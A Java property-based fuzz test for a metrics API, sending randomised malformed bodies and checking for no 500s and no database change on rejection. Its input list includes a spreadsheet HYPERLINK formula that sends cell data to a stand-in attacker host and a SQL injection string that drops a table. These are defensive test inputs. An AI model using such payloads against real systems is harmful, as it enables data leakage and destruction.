package io.pulseboard.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.pulseboard.RunningApp;
import io.pulseboard.TestApp;
import io.pulseboard.TestDatabase;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.ext.web.client.WebClient;
import io.vertx.junit5.VertxExtension;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Seeded random bodies against a running server: points, annotations and metric definitions
 * with bad times, NUL, lone surrogates, bytes that are not UTF-8, formulas, wrong types and
 * broken JSON. Never a 500, and a rejected request never changes a row. The seed is printed on
 * failure; {@code -Dpulseboard.property.seed=N} replays one run.
 */
@ExtendWith(VertxExtension.class)
class InputPropertyTest {
  private static final int REQUESTS = 300;
  private static final Set<Integer> EXPECTED = Set.of(200, 201, 400, 413, 415, 422);
  private static final String COUNTS = "SELECT (SELECT count(*) FROM points) || '/' || (SELECT count(*) FROM series) "
      + "|| '/' || (SELECT count(*) FROM point_revisions) || '/' || (SELECT count(*) FROM annotations) || '/' "
      + "|| (SELECT count(*) FROM metrics) || '/' || (SELECT coalesce(max(seq), 0) FROM points) || '/' "
      + "|| (SELECT string_agg(md5(m::text), '' ORDER BY id) FROM metrics m)";
  private static final List<String> TIMES = List.of("2025-09-10T00:00:00Z", "2025-09-10t00:00:00.123456z",
      "+10000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z", "+002024-01-01T00:00:00Z", "2025-09-10T00:00:00.0000001Z",
      "2025-09-10T00:00:00.1234560Z", "2016-12-31T23:59:60Z", "2025-02-30T00:00:00Z", "9999-12-31T23:30:00-01:00",
      "0000-01-01T00:00:00Z", "2025-09-10", "2025-09-10T00:00:00+24:00", "");
  private static final List<String> TEXTS = List.of("kr", "서울", "a\u0000b", "\ud800x", "x\udc00", "\ud83d\ude00",
      "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")", "@SUM(1)", "+1+1", "'; DROP TABLE points; --", "\t\r\n",
      "x".repeat(201), "");

  @RegisterExtension
  static final RunningApp running = new RunningApp();

  @Test
  void random_bodies_never_give_a_500_and_a_rejected_one_writes_nothing(Vertx vertx) {
    long seed = Long.getLong("pulseboard.property.seed", 20251110L);
    Random random = new Random(seed);
    WebClient client = WebClient.create(vertx);
    int accepted = 0;
    try {
      for (int i = 0; i < REQUESTS; i++) {
        Request request = request(random, i);
        String before = counts();
        HttpResponse<Buffer> r = client.request(request.method(), running.port(), "127.0.0.1", request.path())
            .putHeader("Authorization", "Bearer " + TestApp.ADMIN_TOKEN).putHeader("Content-Type", "application/json")
            .sendBuffer(request.body()).await();
        String what = "seed " + seed + ", request " + i + ": " + request.method() + " " + request.path() + " "
            + request.body().toString(StandardCharsets.ISO_8859_1) + " -> " + r.statusCode() + " " + r.bodyAsString();
        assertThat(r.statusCode()).as(what).isIn(EXPECTED);
        if (r.statusCode() >= 400) {
          assertThat(r.getHeader("Content-Type")).as(what).isEqualTo("application/problem+json");
          assertThat(counts()).as(what).isEqualTo(before);
        } else {
          accepted++;
        }
      }
    } finally {
      client.close();
    }
    // Both paths must have been walked, or the property says little.
    assertThat(accepted).as("accepted of " + REQUESTS).isBetween(REQUESTS / 10, REQUESTS * 9 / 10);
  }

  /** Row counts, the head seq and a digest of every metric: what a rejected request must not change. */
  private static String counts() {
    try (Connection c = TestDatabase.connect(running.db()); Statement s = c.createStatement();
        ResultSet rs = s.executeQuery(COUNTS)) {
      rs.next();
      return rs.getString(1);
    } catch (SQLException e) {
      throw new IllegalStateException(e);
    }
  }

  private record Request(HttpMethod method, String path, Buffer body) {}

  private static Request request(Random random, int i) {
    return switch (random.nextInt(5)) {
      case 0, 1 -> new Request(HttpMethod.POST, "/api/v1/points", mangle(random, points(random, i)));
      case 2 -> new Request(HttpMethod.POST, "/api/v1/annotations", mangle(random, "{\"ts\":" + json(pick(random, TIMES))
          + ",\"title\":" + json(pick(random, TEXTS)) + ",\"description\":" + json(pick(random, TEXTS)) + "}"));
      case 3 -> new Request(HttpMethod.PUT, "/api/v1/metrics/" + (random.nextBoolean() ? "offices" : "prop_" + i),
          mangle(random, "{\"name\":" + json(pick(random, TEXTS)) + ",\"unit\":" + json(pick(random, TEXTS))
              + ",\"description\":" + json(pick(random, TEXTS)) + ",\"labels\":[\"region\"],\"cadence\":\"P7D\","
              + "\"display\":\"number\"}"));
      default -> new Request(HttpMethod.POST, "/api/v1/points", Buffer.buffer(bytes(random)));
    };
  }

  /** One to three points; each field now and then replaced by something odd. */
  private static String points(Random random, int i) {
    StringBuilder out = new StringBuilder("{\"points\":[");
    for (int p = random.nextInt(3); p >= 0; p--) {
      out.append("{\"metric\":").append(random.nextInt(8) == 0 ? json(pick(random, TEXTS)) : "\"weekly_users\"")
          .append(",\"labels\":{").append(json(random.nextInt(8) == 0 ? pick(random, TEXTS) : "region")).append(':')
          .append(json(random.nextBoolean() ? "r" + i : pick(random, TEXTS))).append('}')
          .append(",\"ts\":").append(json(random.nextInt(3) == 0 ? pick(random, TIMES)
              : "2024-01-01T00:00:" + String.format("%02d.%06dZ", random.nextInt(60), random.nextInt(1_000_000))))
          .append(",\"value\":").append(value(random));
      if (random.nextBoolean()) {
        out.append(",\"source\":").append(json(pick(random, TEXTS)));
      }
      out.append(p > 0 ? "}," : "}");
    }
    return out.append("]}").toString();
  }

  private static String value(Random random) {
    return switch (random.nextInt(6)) {
      case 0 -> "1e999";
      case 1 -> "\"NaN\"";
      case 2 -> "-0.0";
      case 3 -> "123456789012345678901234567890";
      default -> Double.toString(random.nextGaussian() * 1e9);
    };
  }

  /** Usually the body as is; sometimes cut short, or with a stray byte that is not UTF-8. */
  private static Buffer mangle(Random random, String body) {
    Buffer buffer = Buffer.buffer(body, "UTF-8");
    return switch (random.nextInt(8)) {
      case 0 -> buffer.getBuffer(0, random.nextInt(buffer.length()));
      case 1 -> {
        int at = random.nextInt(buffer.length());
        yield buffer.getBuffer(0, at).appendByte((byte) (0x80 + random.nextInt(0x80))).appendBuffer(
            buffer.getBuffer(at, buffer.length()));
      }
      default -> buffer;
    };
  }

  private static byte[] bytes(Random random) {
    byte[] out = new byte[random.nextInt(64)];
    random.nextBytes(out);
    return out;
  }

  private static <T> T pick(Random random, List<T> from) {
    return from.get(random.nextInt(from.size()));
  }

  /** A JSON string with every non-ASCII or control character escaped, so lone surrogates survive. */
  private static String json(String text) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : text.toCharArray()) {
      if (c == '"' || c == '\\') {
        out.append('\\').append(c);
      } else if (c < 0x20 || c > 0x7E) {
        out.append(String.format("\\u%04x", (int) c));
      } else {
        out.append(c);
      }
    }
    return out.append('"').toString();
  }
}
